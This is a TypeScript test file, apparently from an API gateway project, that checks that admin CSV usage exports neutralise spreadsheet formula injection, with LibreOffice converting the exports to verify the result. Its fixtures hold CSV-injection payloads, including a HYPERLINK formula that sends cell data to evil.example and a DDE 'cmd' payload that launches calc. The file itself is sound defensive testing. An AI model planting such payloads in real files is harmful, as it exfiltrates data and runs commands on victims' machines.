import { execFile, execFileSync } from 'node:child_process';
import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import t from 'tap';
import { adminCall } from '../helpers/admin.js';
import { ManualClock } from '../helpers/clock.js';
import { NOW } from '../helpers/fixtures.js';
import { startGateway } from '../helpers/gateway.js';
import { startRedis } from '../helpers/redis.js';

const run = promisify(execFile);
const SOFFICE = ['/usr/bin/soffice', '/usr/lib/libreoffice/program/soffice'].find((p) => existsSync(p));
const SIMPLE = '/fuel-api/api/simple-current.php';

// Labels a spreadsheet would read as formulas (OWASP "CSV injection"), and a harmless one.
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '=1+1'];

// Labels behind a leading control character (NUL, and the rest of C0 and DEL): LibreOffice drops
// the control character and reads the rest as a formula. The admin API now refuses such labels,
// so the test plants them straight into Redis, as a label stored before that check would be.
const PLANTED = [
  '\u0000=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  '\u0000=1+1',
  '\u0001+1+1',
  '\u001f@SUM(1+1)',
  '\u007f-2+3',
  '\u0000 =1+1',
  '\t=1+1',
  '\r=1+1',
];

/** The spreadsheet LibreOffice makes of a CSV file: the XML of its first sheet. */
async function asSheet(dir: string, name: string, csv: string): Promise<string> {
  const file = join(dir, `${name}.csv`);
  writeFileSync(file, csv);
  const profile = `file://${join(dir, 'lo-profile')}`;
  await run(
    SOFFICE as string,
    [
      `-env:UserInstallation=${profile}`,
      '--headless',
      // Comma, double quote, UTF-8, from row 1: how an operator imports the export.
      '--infilter=CSV:44,34,76,1',
      '--convert-to',
      'xlsx',
      '--outdir',
      dir,
      file,
    ],
    { timeout: 240_000, env: { ...process.env, HOME: dir } },
  );
  const xlsx = join(dir, `${name}.xlsx`);
  // The sheet, then its shared strings (where LibreOffice puts text cells).
  const { stdout } = await run('unzip', ['-p', xlsx, 'xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml'], {
    maxBuffer: 16 << 20,
  });
  return stdout;
}

/** The field a label is written as in the CSV: quoted, a ' in front when it could start a formula. */
const field = (label: string, neutralised: boolean): string =>
  `"${neutralised ? "'" : ''}${label.replaceAll('"', '""')}"`;

// LibreOffice reads `-2+3`, `+1` or `@x` as text, so the spreadsheet test above cannot tell
// whether they were neutralised; Excel and Google Sheets read them as formulas. Their CSV text is
// checked here, with or without LibreOffice.
t.test('every label that could start a formula is written with a leading quote, in both CSV exports', async (t) => {
  const gw = await startGateway(t, {}, { clock: new ManualClock(NOW) });
  const labels = [...HOSTILE, '-1', '+1', '@x', ' =1+1', ' -1'];
  const harmless = ['Acme, "Fleet"', 'a-b+c@d=e'];
  const ids = new Map<string, string>();
  for (const label of [...labels, ...harmless]) {
    const made = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter', label });
    t.equal(made.status, 201, JSON.stringify(label));
    ids.set(label, made.body.account.id);
    t.equal((await gw.get(`${SIMPLE}?api_key=${made.body.api_key}`)).status, 200);
  }
  const day = new Date(NOW + 2 * 3600_000).toISOString().slice(0, 10);
  for (const path of ['/admin/usage', '/admin/usage/periods']) {
    const csv = await adminCall(gw, 'GET', `${path}?from=${day}&to=${day}`);
    t.equal(csv.status, 200);
    const rows = (csv.body as string).split('\r\n');
    const rowOf = (label: string): string => rows.find((r) => r.startsWith(`${ids.get(label)},`)) ?? '';
    for (const label of labels)
      t.ok(rowOf(label).includes(`,${field(label, true)},`), `${path}: ${JSON.stringify(label)} is '-prefixed`);
    t.ok(rowOf('Acme, "Fleet"').includes(`,${field('Acme, "Fleet"', false)},`), `${path}: quotes doubled, no '`);
    t.ok(rowOf('a-b+c@d=e').includes(',a-b+c@d=e,'), `${path}: a label starting with a letter is left as it is`);
  }
});

t.test(
  'no account label becomes a formula when an export is opened in a spreadsheet',
  {
    skip: SOFFICE ? false : 'LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui',
    timeout: 600_000,
  },
  async (t) => {
    const redis = await startRedis(t);
    const gw = await startGateway(t, { store: redis.store }, { clock: new ManualClock(NOW) });
    const ids: string[] = [];
    for (const label of [...HOSTILE, 'Acme, "Fleet"', ...PLANTED.map((_, i) => `planted ${i}`)]) {
      const made = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter', label });
      t.equal(made.status, 201);
      ids.push(made.body.account.id);
      t.equal((await gw.get(`${SIMPLE}?api_key=${made.body.api_key}`)).status, 200);
    }
    // redis-cli -x takes the last argument from stdin, byte for byte: argv cannot carry a NUL.
    PLANTED.forEach((label, i) => {
      const id = ids[HOSTILE.length + 1 + i];
      execFileSync('redis-cli', ['-p', String(redis.port), '-x', 'HSET', `fpg:{acct:${id}}:account`, 'label'], {
        input: label,
      });
    });
    const day = new Date(NOW + 2 * 3600_000).toISOString().slice(0, 10);
    const dir = t.testdir();
    for (const path of ['/admin/usage', '/admin/usage/periods']) {
      const csv = await adminCall(gw, 'GET', `${path}?from=${day}&to=${day}`);
      t.equal(csv.status, 200);
      const rows = (csv.body as string).split('\r\n');
      t.ok(
        ids.every((id) => rows.some((r) => r.startsWith(`${id},`))),
        `${path}: a row of every account made here`,
      );
      const sheet = await asSheet(dir, path.replaceAll('/', '_'), csv.body as string);
      t.match(sheet, /<sheetData>/, `${path}: LibreOffice read the export`);
      t.notMatch(sheet, /<f[ >]/, `${path}: no cell is a formula`);
      t.match(sheet, /Acme, &quot;Fleet&quot;|Acme, "Fleet"/, `${path}: a harmless label is kept as it is`);
      t.match(sheet, /(&apos;|')=HYPERLINK\(/, `${path}: a hostile one is text, with the quote in front`);
      for (const label of PLANTED) {
        const cell = `,"'${label.replaceAll('"', '""')}",`;
        t.ok(
          rows.some((r) => r.includes(cell)),
          `${path}: ${JSON.stringify(label)} is quoted, with ' in front`,
        );
      }
    }
    t.same(readdirSync(dir).filter((f) => f.endsWith('.xlsx')).length, 2, 'both exports were converted');
    const json = await adminCall(gw, 'GET', `/admin/usage?from=${day}&to=${day}&format=json`);
    const labels = (json.body.rows as Array<{ label: string }>).map((r) => r.label).sort();
    t.same(labels, [...HOSTILE, 'Acme, "Fleet"', ...PLANTED].sort(), 'JSON keeps every label exactly');
  },
);
